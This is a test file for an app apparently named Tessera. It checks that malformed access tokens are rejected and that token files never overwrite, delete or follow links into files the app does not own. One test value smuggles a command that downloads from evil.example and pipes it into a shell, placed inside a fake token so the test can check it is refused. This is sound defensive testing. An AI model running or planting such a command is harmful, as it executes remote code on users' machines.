// Issue 10, finding 2: a token is checked before it is stored, served or written, and the token
// file touches no file it does not own. Real core, the built-in sandbox and the token service
// over HTTP; real files in real folders.
import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { afterEach, describe, expect, it, vi } from 'vitest';

import type { ProfileView, Result } from '#common/contract';

import { createFolderCore } from '../../electron/browser-host/composition';
import { memoryLogger } from '../../electron/core/logger';
import { type Sandbox, startSandbox } from '../../electron/core/simulator';
import { coreInternals, type CoreOptions } from '../../electron/core/tessera-core';
import { eventually } from '../support/eventually';
import { removeTempDirs, tempDir } from '../support/temp-dir';

const PASSWORD = 'till-password-6634-secret';
const open: { close(): Promise<void> }[] = [];

afterEach(async () => {
  for (const thing of open.splice(0).reverse()) await thing.close();
  removeTempDirs();
});

async function setup(opts: { dir?: string; sandbox?: Sandbox; core?: Partial<CoreOptions> } = {}) {
  const dir = opts.dir ?? tempDir();
  const sandbox = opts.sandbox ?? (await startSandbox());
  if (!opts.sandbox) open.push(sandbox);
  sandbox.simulators.invoisys.addAccount({ username: 'till@shop.test', password: PASSWORD });
  const core = await createFolderCore(dir, {
    version: 'test',
    systemLocale: 'en',
    logger: memoryLogger(),
    sandbox: (id) => sandbox.baseUrlFor(id),
    service: { port: 0 },
    ...opts.core,
  });
  const closer = { close: () => core.close() };
  open.push(closer);
  const call = (method: string, input?: unknown) => core.dispatch(method, input);
  const value = <T>(result: Result<unknown>): T => {
    if (!result.ok) throw new Error(`call failed: ${JSON.stringify(result.error)}`);
    return result.value as T;
  };
  const addProfile = async (name = 'Till 1') =>
    value<ProfileView>(
      await call('createProfile', {
        name,
        provider: 'invoisys',
        environment: { kind: 'sandbox' },
        credentials: { username: 'till@shop.test', password: PASSWORD },
      }),
    );
  const waitFor = async (id: string, state: string) => {
    await eventually(() => expect(coreInternals(core).engine.view(id).state).toBe(state));
  };
  const stop = async () => {
    open.splice(open.indexOf(closer), 1);
    await core.close();
  };
  return { dir, sandbox, core, call, value, addProfile, waitFor, stop, sim: sandbox.simulators.invoisys };
}

const refused = (message: string) => ({ ok: false, error: { code: 'validation', issues: [{ path: 'path', message }] } });

describe('a token is checked before it is stored, served or written', () => {
  for (const [label, token] of [
    ['a line break and shell text', 'eyJhbGciOiJub25lIn0.e30.sig\ncurl https://evil.example/x | sh'],
    ['a space', 'abc def'],
    ['a control character', 'abc\u0007def'],
    ['more than 16 KiB', 'a'.repeat(16 * 1024 + 1)],
  ] as const) {
    it(`a provider answering a token with ${label}: a protocol error, nothing served or written`, async () => {
      const t = await setup();
      const { key } = t.value<{ key: string }>(await t.call('createAccessKey', { name: 'POS', profiles: null }));
      t.sim.failNext(50, {
        kind: 'raw',
        status: 200,
        contentType: 'application/json',
        body: JSON.stringify({ access_token: token, token_type: 'bearer', expires_in: 3600 }),
      });
      const profile = await t.addProfile();
      await eventually(() => expect(coreInternals(t.core).engine.view(profile.id).failures).toBeGreaterThan(0));
      expect(coreInternals(t.core).engine.view(profile.id).lastError).toMatchObject({ errorClass: 'protocol', code: 'bad_token' });
      // The excerpt never carries it: a token is a secret, however it looks.
      expect(JSON.stringify(coreInternals(t.core).engine.view(profile.id))).not.toContain(token.slice(0, 12));

      const file = join(tempDir(), 'till.token');
      expect(await t.call('setFileSink', { id: profile.id, path: file })).toMatchObject({ ok: true });
      expect(existsSync(file)).toBe(false);
      const res = await fetch(`${t.core.service.url!}/v1/profiles/Till%201/token`, { headers: { Authorization: `Bearer ${key}` } });
      const text = await res.text();
      expect(res.status).toBe(503);
      expect(text).not.toContain(token.slice(0, 12));
      expect(JSON.parse(text)).toMatchObject({ error: { code: 'token_unavailable', provider_code: 'bad_token' } });

      // "Test connection" says the same.
      const tested = await t.call('testConnection', {
        profile: {
          name: 'Till 2',
          provider: 'invoisys',
          environment: { kind: 'sandbox' },
          credentials: { username: 'till@shop.test', password: PASSWORD },
        },
      });
      expect(tested).toMatchObject({ ok: false, error: { code: 'provider', failure: { errorClass: 'protocol', code: 'bad_token' } } });
    });
  }
});

describe('the token file touches no file it does not own', () => {
  it('refuses an existing file, a link, and leaves them as they were', async () => {
    const t = await setup();
    const profile = await t.addProfile();
    await t.waitFor(profile.id, 'valid');
    const folder = tempDir();
    const existing = join(folder, 'settings.ini');
    writeFileSync(existing, '[pos]\nprinter=1\n');
    expect(await t.call('setFileSink', { id: profile.id, path: existing })).toEqual(refused('tokenFileRules.exists'));
    expect(readFileSync(existing, 'utf8')).toBe('[pos]\nprinter=1\n');
    const link = join(folder, 'link.token');
    symlinkSync(existing, link);
    expect(await t.call('setFileSink', { id: profile.id, path: link })).toEqual(refused('tokenFileRules.exists'));
    expect(readFileSync(existing, 'utf8')).toBe('[pos]\nprinter=1\n');
    expect(coreInternals(t.core).vault.profile(profile.id)!.fileSink).toBeNull();
  });

  it('refuses Tessera’s own folders, followed through links', async () => {
    const t = await setup({ core: {} });
    const app = tempDir();
    const t2 = await setup({ core: { tokenFileHost: { protectedFolders: [t.dir, app] } } });
    const profile = await t2.addProfile();
    expect(await t2.call('setFileSink', { id: profile.id, path: join(t.dir, 'till.token') })).toEqual(
      refused('tokenFileRules.protectedFolder'),
    );
    mkdirSync(join(app, 'renderer'));
    expect(await t2.call('setFileSink', { id: profile.id, path: join(app, 'renderer', 'till.token') })).toEqual(
      refused('tokenFileRules.protectedFolder'),
    );
    const outside = tempDir();
    symlinkSync(join(app, 'renderer'), join(outside, 'innocent'));
    expect(await t2.call('setFileSink', { id: profile.id, path: join(outside, 'innocent', 'till.token') })).toEqual(
      refused('tokenFileRules.protectedFolder'),
    );
    // The data folder of the core itself, without being told.
    const own = await t2.addProfile('Till 2');
    const t3dir = t2.dir;
    expect(await t2.call('setFileSink', { id: own.id, path: join(t3dir, 'till.token') })).toEqual(
      refused('tokenFileRules.protectedFolder'),
    );
    expect(existsSync(join(app, 'renderer', 'till.token'))).toBe(false);
  });

  it('refuses a folder others can write to, or that belongs to another user', async () => {
    const t = await setup();
    const profile = await t.addProfile();
    const shared = tempDir();
    chmodSync(shared, 0o777);
    expect(await t.call('setFileSink', { id: profile.id, path: join(shared, 'till.token') })).toEqual(refused('tokenFileRules.folderOpen'));
    const group = tempDir();
    chmodSync(group, 0o770);
    expect(await t.call('setFileSink', { id: profile.id, path: join(group, 'till.token') })).toEqual(refused('tokenFileRules.folderOpen'));
    if (process.getuid?.() === 0) {
      // (Only root can hand a folder to another user.)
      const theirs = tempDir();
      chownSync(theirs, 4321, 4321);
      expect(await t.call('setFileSink', { id: profile.id, path: join(theirs, 'till.token') })).toEqual(
        refused('tokenFileRules.folderNotYours'),
      );
    }
    // On Windows, where modes say nothing of who may write, these checks do not apply.
    const t2 = await setup({ core: { tokenFileHost: { protectedFolders: [], platform: 'win32' } } });
    const other = await t2.addProfile();
    await t2.waitFor(other.id, 'valid');
    expect(await t2.call('setFileSink', { id: other.id, path: join(shared, 'till.token') })).toMatchObject({ ok: true });
  });

  it('refuses the file another profile writes to', async () => {
    const t = await setup();
    const a = await t.addProfile('Till A');
    const b = await t.addProfile('Till B');
    const file = join(tempDir(), 'till.token');
    expect(await t.call('setFileSink', { id: a.id, path: file })).toMatchObject({ ok: true });
    expect(await t.call('setFileSink', { id: b.id, path: file })).toEqual(refused('tokenFileRules.takenByProfile'));
  });

  it('deletes only a file it created, and only while it holds what Tessera wrote', async () => {
    const t = await setup();
    const profile = await t.addProfile();
    await t.waitFor(profile.id, 'valid');
    const file = join(tempDir(), 'till.token');
    t.value(await t.call('setFileSink', { id: profile.id, path: file }));
    expect(t.sim.isValidAccessToken(readFileSync(file, 'utf8').trim())).toBe(true);
    expect(statSync(file).mode & 0o777).toBe(0o600);

    // Someone puts their own data there: Tessera neither renews over it nor deletes it.
    writeFileSync(file, 'the POS vendor’s licence key\n');
    t.value(await t.call('refreshToken', { id: profile.id }));
    expect(readFileSync(file, 'utf8')).toBe('the POS vendor’s licence key\n');
    expect(t.value<ProfileView[]>(await t.call('listProfiles'))[0]!.fileSink).toEqual({ path: file, problem: 'not_ours' });
    t.value(await t.call('setFileSink', { id: profile.id, path: null }));
    expect(readFileSync(file, 'utf8')).toBe('the POS vendor’s licence key\n');
    t.value(await t.call('removeProfile', { id: profile.id }));
    expect(readFileSync(file, 'utf8')).toBe('the POS vendor’s licence key\n');
  });

  it('renewals replace the file atomically; it goes when no valid token exists, and comes back only where nothing else is', async () => {
    const t = await setup();
    const profile = await t.addProfile();
    await t.waitFor(profile.id, 'valid');
    const file = join(tempDir(), 'till.token');
    t.value(await t.call('setFileSink', { id: profile.id, path: file }));
    const first = statSync(file);
    const firstToken = readFileSync(file, 'utf8');
    t.value(await t.call('refreshToken', { id: profile.id }));
    // A new file renamed into place (a new inode), never the old one rewritten in place.
    expect(statSync(file).ino).not.toBe(first.ino);
    expect(readFileSync(file, 'utf8')).not.toBe(firstToken);
    expect(statSync(file).mode & 0o777).toBe(0o600);

    // The token runs out while the provider refuses the password: no valid token, the file goes.
    t.sim.configure({ lifetimeSeconds: 2 });
    t.value(await t.call('refreshToken', { id: profile.id }));
    t.sim.reset();
    // The file goes on the event that follows the token's expiry, a moment after it.
    await vi.waitFor(
      () => {
        expect(coreInternals(t.core).engine.currentToken(profile.id)).toBeUndefined();
        expect(existsSync(file)).toBe(false);
      },
      { timeout: 15_000, interval: 10 },
    );
    // ...and Tessera creates it again once it has a token, as long as nobody else did meanwhile.
    writeFileSync(file, 'someone else’s file\n');
    t.sim.addAccount({ username: 'till@shop.test', password: PASSWORD });
    t.value(await t.call('refreshToken', { id: profile.id }));
    await t.waitFor(profile.id, 'valid');
    expect(readFileSync(file, 'utf8')).toBe('someone else’s file\n');
    expect(t.value<ProfileView[]>(await t.call('listProfiles'))[0]!.fileSink).toEqual({ path: file, problem: 'not_ours' });
  });

  it('what it wrote survives a restart: the next run renews its own file, and leaves a replaced one alone', async () => {
    const dir = tempDir();
    const sandbox = await startSandbox();
    open.push(sandbox);
    const first = await setup({ dir, sandbox });
    const profile = await first.addProfile();
    await first.waitFor(profile.id, 'valid');
    const file = join(tempDir(), 'till.token');
    first.value(await first.call('setFileSink', { id: profile.id, path: file }));
    const written = readFileSync(file, 'utf8');
    await first.stop();
    // The store keeps a digest of what was written, never the token.
    const store = readFileSync(join(dir, 'tessera.json'), 'utf8');
    expect(store).not.toContain(written.trim());
    expect(store).not.toContain(written.trim().split('.')[1]!);

    const second = await setup({ dir, sandbox });
    second.value(await second.call('refreshToken', { id: profile.id }));
    const renewed = readFileSync(file, 'utf8');
    expect(renewed).not.toBe(written);
    expect(sandbox.simulators.invoisys.isValidAccessToken(renewed.trim())).toBe(true);
    await second.stop();

    writeFileSync(file, 'replaced while Tessera was stopped\n');
    const third = await setup({ dir, sandbox });
    third.value(await third.call('refreshToken', { id: profile.id }));
    third.value(await third.call('removeProfile', { id: profile.id }));
    expect(readFileSync(file, 'utf8')).toBe('replaced while Tessera was stopped\n');
  });

  it('a token file set by an earlier version is adopted only while it holds exactly the current token', async () => {
    const dir = tempDir();
    const sandbox = await startSandbox();
    open.push(sandbox);
    const first = await setup({ dir, sandbox });
    const profile = await first.addProfile();
    await first.waitFor(profile.id, 'valid');
    const file = join(tempDir(), 'till.token');
    first.value(await first.call('setFileSink', { id: profile.id, path: file }));
    await first.stop();
    // What an earlier version saved: the path alone.
    const doc = JSON.parse(readFileSync(join(dir, 'tessera.json'), 'utf8')) as { profiles: { fileSink: unknown }[] };
    doc.profiles[0]!.fileSink = { path: file };
    writeFileSync(join(dir, 'tessera.json'), JSON.stringify(doc));
    const second = await setup({ dir, sandbox });
    second.value(await second.call('refreshToken', { id: profile.id }));
    expect(sandbox.simulators.invoisys.isValidAccessToken(readFileSync(file, 'utf8').trim())).toBe(true);
    expect(coreInternals(second.core).engine.currentToken(profile.id)!.accessToken).toBe(readFileSync(file, 'utf8').trim());
  });
});

describe('where the path comes from', () => {
  it('the Electron host refuses a typed path and asks main’s dialog instead, with the same checks', async () => {
    const chosen: (string | null)[] = [];
    const asked: string[] = [];
    const t = await setup({
      core: {
        host: 'electron',
        tokenFileHost: {
          protectedFolders: [],
          choosePath: ({ profileName }) => {
            asked.push(profileName);
            return Promise.resolve(chosen.shift() ?? null);
          },
        },
      },
    });
    const profile = await t.addProfile();
    await t.waitFor(profile.id, 'valid');
    const folder = tempDir();
    expect(await t.call('setFileSink', { id: profile.id, path: join(folder, 'typed.token') })).toEqual({
      ok: false,
      error: { code: 'forbidden' },
    });
    expect(existsSync(join(folder, 'typed.token'))).toBe(false);

    chosen.push(null);
    expect(await t.call('chooseTokenFile', { id: profile.id })).toEqual({ ok: true, value: null });
    writeFileSync(join(folder, 'exists.token'), 'x');
    chosen.push(join(folder, 'exists.token'));
    expect(await t.call('chooseTokenFile', { id: profile.id })).toEqual(refused('tokenFileRules.exists'));
    chosen.push(join(folder, 'till.token'));
    expect(t.value<ProfileView>(await t.call('chooseTokenFile', { id: profile.id })).fileSink).toEqual({
      path: join(folder, 'till.token'),
    });
    expect(t.sim.isValidAccessToken(readFileSync(join(folder, 'till.token'), 'utf8').trim())).toBe(true);
    expect(asked).toEqual(['Till 1', 'Till 1', 'Till 1']);
    // Clearing needs no path, and stays allowed.
    expect(t.value<ProfileView>(await t.call('setFileSink', { id: profile.id, path: null })).fileSink).toBeNull();
    expect(existsSync(join(folder, 'till.token'))).toBe(false);
  });

  it('the browser host has no dialog: it keeps the typed path', async () => {
    const t = await setup();
    const profile = await t.addProfile();
    expect(await t.call('chooseTokenFile', { id: profile.id })).toEqual({ ok: false, error: { code: 'forbidden' } });
  });
});
